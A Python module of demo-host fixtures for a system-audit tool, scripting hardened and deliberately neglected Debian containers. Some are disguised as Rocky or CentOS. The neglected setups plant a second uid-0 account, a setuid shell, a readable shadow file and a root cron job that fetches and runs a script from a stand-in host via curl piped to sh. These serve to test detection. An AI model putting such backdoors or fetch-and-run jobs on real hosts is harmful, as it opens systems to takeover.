"""The hosts of `make demo` as they are booted for `capture`: packages, set-up, mending.

Six are Debian as installed. Three are Debian made to look like another system, since
no other can be booted here: the release file, PAM stacks and package database are
those systems', the programs underneath are Debian's. `audit4/demo/README.md` says
which. `later` is what happens on the host between the two scans of the demo.
"""

# ruff: noqa: E501 - lines of shell end where the shell wants it

from dataclasses import dataclass

_SSH = ("cron", "logrotate")

# Debian without its packages' database, and with one that rpm itself made: each
# package holds its name and version alone.
_RPM = """
cat > /root/package.spec <<'X'
Name: %{pkg_name}
Version: %{pkg_version}
Release: %{pkg_release}
Summary: package
License: none
%description
package
%files
X
mkdir -p /etc/rpm /var/lib/rpm
echo '%_dbpath /var/lib/rpm' > /etc/rpm/macros  # Debian's lies in the user's home
rpm --initdb
mkdir -p /root/rpms
while read -r n v r; do
  rpmbuild -bb --quiet --target x86_64 --define "pkg_name $n" --define "pkg_version $v" \
    --define "pkg_release $r" --define "_rpmdir /root/rpms" /root/package.spec 2>/dev/null
done < /root/packages
rpm -i --nodeps --justdb --ignorearch /root/rpms/x86_64/*.rpm
rm -rf /root/rpms /root/package.spec /root/packages /root/rpmbuild
rm -f /usr/bin/dpkg* /usr/bin/apt* /etc/debian_version /etc/cron.daily/apt-compat \
  /etc/cron.daily/dpkg
rm -rf /etc/apt /var/lib/apt /var/lib/dpkg
cat > /etc/pam.d/system-auth <<'X'
auth        required      pam_env.so
auth        required      pam_faildelay.so delay=2000000
%FAILLOCK_PRE%auth        sufficient    pam_unix.so nullok
%FAILLOCK_POST%auth        required      pam_deny.so
%FAILLOCK_ACCOUNT%account     required      pam_unix.so
password    requisite     pam_pwquality.so local_users_only
password    sufficient    pam_unix.so sha512 shadow nullok use_authtok
password    required      pam_deny.so
session     optional      pam_keyinit.so revoke
session     required      pam_limits.so
session     required      pam_unix.so
X
cp /etc/pam.d/system-auth /etc/pam.d/password-auth
printf '%s\\n' 'auth substack password-auth' 'account required pam_nologin.so' \
  'account include password-auth' 'password include password-auth' \
  'session include password-auth' > /etc/pam.d/sshd
printf '%s\\n' 'auth substack system-auth' 'account include system-auth' \
  'password include system-auth' 'session include system-auth' > /etc/pam.d/login
printf '%s\\n' 'password substack system-auth' > /etc/pam.d/passwd
printf '%s\\n' 'auth sufficient pam_rootok.so' 'auth substack system-auth' \
  'account include system-auth' 'session include system-auth' > /etc/pam.d/su
for part in auth account password session; do
  sed -i "s/^@include common-$part.*/$part include system-auth/" /etc/pam.d/*
done
rm -f /etc/pam.d/common-*
"""


def _rpm_system(packages: str, *, faillock: bool) -> str:
    lines = {
        "%FAILLOCK_PRE%": "auth        required      pam_faillock.so preauth silent\n",
        "%FAILLOCK_POST%": "auth        [default=die] pam_faillock.so authfail\n",
        "%FAILLOCK_ACCOUNT%": "account     required      pam_faillock.so\n",
    }
    text = _RPM
    for mark, line in lines.items():
        text = text.replace(mark, line if faillock else "")
    return f"cat > /root/packages <<'X'\n{packages.strip()}\nX\n{text}"


_ROCKY = """
audit 3.1.5 4.el9
bash 5.1.8 9.el9
chrony 4.6.1 1.el9
coreutils 8.32 39.el9
cronie 1.5.7 12.el9
firewalld 1.3.4 9.el9
glibc 2.34 168.el9
httpd 2.4.62 4.el9
kernel 5.14.0 570.12.1.el9_6
libpwquality 1.4.4 8.el9
nftables 1.0.9 3.el9
openssh-server 8.7p1 45.el9
openssl 3.2.2 6.el9
pam 1.5.1 23.el9
rpm 4.16.1.3 37.el9
rsyslog 8.2412.0 1.el9
selinux-policy-targeted 38.1.53 5.el9
sudo 1.9.5p2 10.el9
systemd 252 51.el9
"""
_CENTOS = """
audit 2.8.5 4.el7
bash 4.2.46 35.el7_9
coreutils 8.22 24.el7
cronie 1.4.11 24.el7_9
glibc 2.17 326.el7_9
iptables 1.4.21 35.el7
kernel 3.10.0 1160.el7
libpwquality 1.2.3 5.el7
mariadb-server 5.5.68 1.el7
ntp 4.2.6p5 29.el7
openssh-server 7.4p1 21.el7
openssl 1.0.2k 26.el7_9
pam 1.1.8 23.el7
rpm 4.11.3 48.el7_9
rsyslog 8.24.0 57.el7_9
sudo 1.8.23 10.el7_9
systemd 219 78.el7
telnet-server 0.17 66.el7
"""

_COMMON = """
useradd -m -s /bin/bash -c 'Quan tri' quantri
echo 'quantri:Mau-Khong-Dung-9' | chpasswd
usermod -aG sudo quantri
touch -d '300 days ago' /etc/machine-id /etc/ssh/ssh_host_*_key.pub
"""

# As after `apt-get update` and a night's logrotate; nothing can be fetched here.
_TENDED = """
mkdir -p /var/lib/apt/lists
touch /var/lib/apt/lists/mirror.example_debian_dists_stable_InRelease
logrotate /etc/logrotate.conf || true
"""

_HARDENED = """
cat > /etc/ssh/sshd_config.d/10-an-toan.conf <<'X'
PermitRootLogin no
PasswordAuthentication no
MaxAuthTries 3
LoginGraceTime 30
ClientAliveInterval 200
ClientAliveCountMax 1
X11Forwarding no
AllowTcpForwarding no
AllowAgentForwarding no
AllowUsers quantri@192.0.2.0/24
Banner /etc/issue.net
LogLevel VERBOSE
MACs hmac-sha2-512-etm@openssh.com,hmac-sha2-256-etm@openssh.com
X
sed -i 's/^PASS_MAX_DAYS.*/PASS_MAX_DAYS 60/; s/^PASS_MIN_DAYS.*/PASS_MIN_DAYS 1/' \
  /etc/login.defs
printf 'minlen = 14\\nminclass = 4\\ndifok = 4\\nmaxrepeat = 3\\nmaxsequence = 3\\nenforce_for_root\\n' \
 > /etc/security/pwquality.conf
printf 'deny = 5\\nunlock_time = 900\\nfail_interval = 900\\n' > /etc/security/faillock.conf
sed -i 's/ nullok//' /etc/pam.d/common-auth
sed -i 's/^auth.*pam_unix.so.*/auth required pam_faillock.so preauth\\n&\\nauth [default=die] pam_faillock.so authfail/' \
  /etc/pam.d/common-auth
sed -i '1i account required pam_faillock.so' /etc/pam.d/common-account
sed -i 's/^password.*pam_unix.so/password requisite pam_pwhistory.so remember=10 use_authtok enforce_for_root\\n&/' \
  /etc/pam.d/common-password
echo 'auth required pam_wheel.so use_uid group=sudo' >> /etc/pam.d/su
chage -M 60 -m 1 -W 7 -I 30 quantri
chage -M 60 -m 1 -W 7 -I 30 root
useradd -D -f 30
passwd -l root
cat > /etc/nftables.conf <<'X'
#!/usr/sbin/nft -f
flush ruleset
table inet filter {
  chain input {
    type filter hook input priority 0; policy drop;
    ct state established,related accept
    iif lo accept
    ip saddr 192.0.2.0/24 tcp dport 22 accept
    tcp dport { 80, 443 } accept
  }
  chain forward { type filter hook forward priority 0; policy drop; }
}
X
systemctl enable --now nftables
printf 'readonly TMOUT=300\\nexport TMOUT\\n' > /etc/profile.d/tmout.sh
printf 'Defaults use_pty\\nDefaults logfile="/var/log/sudo.log"\\nDefaults timestamp_timeout=5\\n' \
  > /etc/sudoers.d/10-nhat-ky
chmod 440 /etc/sudoers.d/10-nhat-ky
chmod 700 /etc/cron.d /etc/cron.daily /etc/cron.hourly /etc/cron.weekly /etc/cron.monthly
chmod 600 /etc/crontab /etc/ssh/sshd_config
chmod 700 /home/quantri
mkdir -p /var/log/journal
cat > /etc/sysctl.d/60-an-toan.conf <<'X'
kernel.kptr_restrict = 2
kernel.dmesg_restrict = 1
kernel.yama.ptrace_scope = 1
kernel.randomize_va_space = 2
kernel.unprivileged_bpf_disabled = 1
fs.suid_dumpable = 0
fs.protected_hardlinks = 1
fs.protected_symlinks = 1
net.ipv4.ip_forward = 0
net.ipv4.tcp_syncookies = 1
net.ipv4.conf.all.accept_redirects = 0
net.ipv4.conf.default.accept_redirects = 0
net.ipv4.conf.all.secure_redirects = 0
net.ipv4.conf.default.secure_redirects = 0
net.ipv4.conf.all.send_redirects = 0
net.ipv4.conf.default.send_redirects = 0
net.ipv4.conf.all.accept_source_route = 0
net.ipv4.conf.default.accept_source_route = 0
net.ipv4.conf.all.rp_filter = 1
net.ipv4.conf.default.rp_filter = 1
net.ipv4.conf.all.log_martians = 1
net.ipv4.conf.default.log_martians = 1
net.ipv4.icmp_echo_ignore_broadcasts = 1
net.ipv4.icmp_ignore_bogus_error_responses = 1
net.ipv6.conf.all.accept_redirects = 0
net.ipv6.conf.default.accept_redirects = 0
net.ipv6.conf.all.accept_source_route = 0
net.ipv6.conf.default.accept_source_route = 0
net.ipv6.conf.all.accept_ra = 0
net.ipv6.conf.default.accept_ra = 0
X
sysctl -q -p /etc/sysctl.d/60-an-toan.conf || true
cat > /etc/rsyslog.d/60-tap-trung.conf <<'X'
*.* action(type="omfwd" target="192.0.2.50" port="6514" protocol="tcp"
  StreamDriver="gtls" StreamDriverMode="1" StreamDriverAuthMode="x509/name"
  StreamDriverPermittedPeers="nhat-ky.example"
  queue.type="LinkedList" queue.filename="chuyen" queue.saveOnShutdown="on"
  action.resumeRetryCount="-1")
X
cat > /etc/audit/rules.d/60-an-toan.rules <<'X'
-w /etc/passwd -p wa -k tai-khoan
-w /etc/shadow -p wa -k tai-khoan
-w /etc/group -p wa -k tai-khoan
-w /etc/gshadow -p wa -k tai-khoan
-w /etc/sudoers -p wa -k dac-quyen
-w /etc/sudoers.d -p wa -k dac-quyen
-w /etc/ssh/sshd_config -p wa -k ssh
-w /etc/ssh/sshd_config.d -p wa -k ssh
-w /etc/pam.d -p wa -k pam
-w /etc/security -p wa -k pam
-w /var/log/lastlog -p wa -k dang-nhap
-w /var/log/faillog -p wa -k dang-nhap
-w /var/log/wtmp -p wa -k dang-nhap
-w /var/log/btmp -p wa -k dang-nhap
-w /run/faillock -p wa -k dang-nhap
-a always,exit -F arch=b64 -S execve -F auid>=1000 -F auid!=4294967295 -k lenh
-a always,exit -F arch=b32 -S execve -F auid>=1000 -F auid!=4294967295 -k lenh
-a always,exit -F arch=b64 -S adjtimex,settimeofday,clock_settime -k thoi-gian
X
rm -f /etc/audit/audit.rules
chmod 640 /etc/audit/rules.d/*
systemctl restart rsyslog ssh
"""

# What listens is xinetd; behind it stands a program that ends at once.
_TELNET = """
install -m 755 /bin/true /usr/sbin/in.telnetd
cat > /etc/xinetd.d/telnet <<'X'
service telnet
{
    disable = no
    socket_type = stream
    wait = no
    user = root
    server = /usr/sbin/in.telnetd
}
X
systemctl restart xinetd
"""

_NEGLECTED = """
echo 'PermitRootLogin yes' > /etc/ssh/sshd_config.d/10-tu-xa.conf
echo 'MaxAuthTries 10' >> /etc/ssh/sshd_config.d/10-tu-xa.conf
useradd -m -s /bin/bash canbo1
useradd -m -s /bin/bash canbo2
echo 'canbo1:x' | chpasswd
passwd -d canbo2
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash hotro
echo 'hotro:x' | chpasswd
echo 'canbo1 ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/canbo1
chmod 440 /etc/sudoers.d/canbo1
chmod 644 /etc/shadow
install -m 4755 /bin/dash /usr/local/bin/ho-tro
echo '*/5 * * * * root /tmp/.cap-nhat' > /etc/cron.d/cap-nhat
chage -d 2024-01-15 canbo1
mkdir -p /var/lib/apt/lists
touch -d '400 days ago' /var/lib/apt/lists/mirror.example_debian_dists_stable_InRelease
systemctl restart ssh
"""


@dataclass(frozen=True, slots=True, kw_only=True)
class DemoHost:
    """A recording to make: suite, packages, what is done before and between scans.

    `login` is who collects; `audited` says that the kernel's audit is to be shown
    as running and `synchronised` the clock, which a container cannot have.
    """

    name: str
    suite: str
    packages: tuple[str, ...] = ()
    setup: str = ""
    later: str = ""
    login: str = "root"
    audited: bool = False
    synchronised: bool = False


DEMO_HOSTS = (
    DemoHost(
        name="web-01",
        suite="bookworm",
        packages=(
            *_SSH,
            "rsyslog",
            "rsyslog-gnutls",
            "chrony",
            "nftables",
            "auditd",
            "libpam-pwquality",
            "nginx-light",
        ),
        setup=_COMMON + _HARDENED + _TENDED,
        # Someone was in a hurry on a well-kept server.
        later="""
echo 'quantri ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-tam
chmod 440 /etc/sudoers.d/90-tam
echo '*/10 * * * * root curl -s http://192.0.2.99/cap-nhat.sh | sh' > /etc/cron.d/tam
chmod 666 /etc/cron.d/tam
""",
        audited=True,
        synchronised=True,
    ),
    DemoHost(
        name="web-02",
        suite="trixie",
        packages=(
            *_SSH,
            "rsyslog",
            "ufw",
            "nftables",
            "systemd-timesyncd",
            "nginx-light",
        ),
        setup=_COMMON
        + """
cat > /usr/lib/os-release <<'X'
PRETTY_NAME="Ubuntu 24.04.3 LTS"
NAME="Ubuntu"
VERSION_ID="24.04"
VERSION="24.04.3 LTS (Noble Numbat)"
VERSION_CODENAME=noble
ID=ubuntu
ID_LIKE=debian
UBUNTU_CODENAME=noble
X
echo 'PermitRootLogin yes' > /etc/ssh/sshd_config.d/50-cloud-init.conf
systemctl restart ssh
""",
        later="""
echo 'PermitRootLogin no' > /etc/ssh/sshd_config.d/50-cloud-init.conf
systemctl restart ssh
sed -i 's/^PASS_MAX_DAYS.*/PASS_MAX_DAYS 90/; s/^PASS_MIN_DAYS.*/PASS_MIN_DAYS 1/' \
  /etc/login.defs
chage -M 90 -m 1 quantri
chage -M 90 -m 1 root
ufw allow 22/tcp
ufw allow 443/tcp
ufw --force enable
systemctl enable --now ufw
""",
        synchronised=True,
    ),
    DemoHost(
        name="mot-cua-01",
        suite="bullseye",
        packages=(*_SSH, "rsyslog", "xinetd", "vsftpd", "nginx-light"),
        setup=_COMMON + _TELNET + _NEGLECTED,
        later="""
echo 'PermitRootLogin no' > /etc/ssh/sshd_config.d/10-tu-xa.conf
systemctl restart ssh
passwd -l canbo2
userdel -f hotro || sed -i '/^hotro:/d' /etc/passwd /etc/shadow
chmod 640 /etc/shadow
chgrp shadow /etc/shadow
sed -i 's/^PASS_MAX_DAYS.*/PASS_MAX_DAYS 90/' /etc/login.defs
""",
    ),
    DemoHost(
        name="van-ban-01",
        suite="bookworm",
        packages=(
            *_SSH,
            "rpm",
            "rsyslog",
            "chrony",
            "firewalld",
            "nftables",
            "auditd",
            "libpam-pwquality",
            "apache2",
        ),
        setup=_COMMON
        + """
rm -f /etc/os-release
cat > /etc/os-release <<'X'
NAME="Rocky Linux"
VERSION="9.6 (Blue Onyx)"
ID="rocky"
ID_LIKE="rhel centos fedora"
VERSION_ID="9.6"
PRETTY_NAME="Rocky Linux 9.6 (Blue Onyx)"
X
cp /etc/os-release /usr/lib/os-release
echo 'Rocky Linux release 9.6 (Blue Onyx)' > /etc/redhat-release
printf 'deny = 5\\nunlock_time = 900\\n' > /etc/security/faillock.conf
groupadd wheel
usermod -aG wheel quantri
systemctl enable --now firewalld
"""
        + _rpm_system(_ROCKY, faillock=True),
        later="""
echo 'PermitRootLogin no' > /etc/ssh/sshd_config.d/01-permitrootlogin.conf
systemctl restart ssh
sed -i 's/^PASS_MAX_DAYS.*/PASS_MAX_DAYS 90/; s/^PASS_MIN_DAYS.*/PASS_MIN_DAYS 1/' \
  /etc/login.defs
chage -M 90 -m 1 quantri
chage -M 90 -m 1 root
printf 'minlen = 12\\nminclass = 4\\n' > /etc/security/pwquality.conf
""",
        audited=True,
        synchronised=True,
    ),
    DemoHost(
        name="van-ban-02",
        suite="trixie",
        packages=(*_SSH, "nftables", "systemd-timesyncd"),
        setup=_COMMON,
    ),
    DemoHost(
        name="du-lieu-01",
        suite="bookworm",
        packages=(*_SSH, "rsyslog", "mariadb-server", "nftables", "chrony"),
        setup=_COMMON
        + """
printf '[mysqld]\\nbind-address = 0.0.0.0\\n' > /etc/mysql/mariadb.conf.d/90-mo.cnf
systemctl restart mariadb
""",
        later="""
rm /etc/mysql/mariadb.conf.d/90-mo.cnf
systemctl restart mariadb
echo 'PermitRootLogin no' > /etc/ssh/sshd_config.d/10-an-toan.conf
systemctl restart ssh
printf 'readonly TMOUT=300\\nexport TMOUT\\n' > /etc/profile.d/tmout.sh
""",
        synchronised=True,
    ),
    DemoHost(
        name="du-lieu-02",
        suite="bullseye",
        packages=(*_SSH, "rpm", "rsyslog", "ntp", "xinetd"),
        setup=_COMMON
        + """
rm -f /etc/os-release
cat > /etc/os-release <<'X'
NAME="CentOS Linux"
VERSION="7 (Core)"
ID="centos"
ID_LIKE="rhel fedora"
VERSION_ID="7"
PRETTY_NAME="CentOS Linux 7 (Core)"
X
cp /etc/os-release /usr/lib/os-release
echo 'CentOS Linux release 7.9.2009 (Core)' > /etc/redhat-release
echo 'PermitRootLogin yes' > /etc/ssh/sshd_config.d/10-goc.conf
systemctl restart ssh
"""
        + _TELNET
        + _rpm_system(_CENTOS, faillock=False),
    ),
    DemoHost(
        name="nhat-ky-01",
        suite="trixie",
        packages=(
            *_SSH,
            "rsyslog",
            "rsyslog-gnutls",
            "chrony",
            "nftables",
            "auditd",
            "libpam-pwquality",
        ),
        setup=_COMMON + _HARDENED + _TENDED,
        audited=True,
        synchronised=True,
    ),
    DemoHost(
        name="giam-sat-01",
        suite="bookworm",
        packages=(*_SSH, "rsyslog", "nftables", "chrony"),
        setup=_COMMON,
        login="quantri",
        synchronised=True,
    ),
)
